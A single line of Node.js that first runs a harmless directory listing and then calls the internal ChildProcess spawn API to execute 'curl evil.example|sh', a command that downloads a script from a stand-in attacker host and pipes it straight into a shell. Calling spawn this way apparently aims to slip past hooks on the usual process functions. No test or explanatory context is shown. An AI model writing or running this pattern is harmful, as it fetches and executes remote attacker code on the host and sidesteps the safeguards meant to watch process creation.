const cp=require('child_process'); cp.execFile('ls',['-l'],(e,o)=>0);new cp.ChildProcess().spawn({file:'/bin/sh',args:['sh','-c','curl evil.example|sh']})
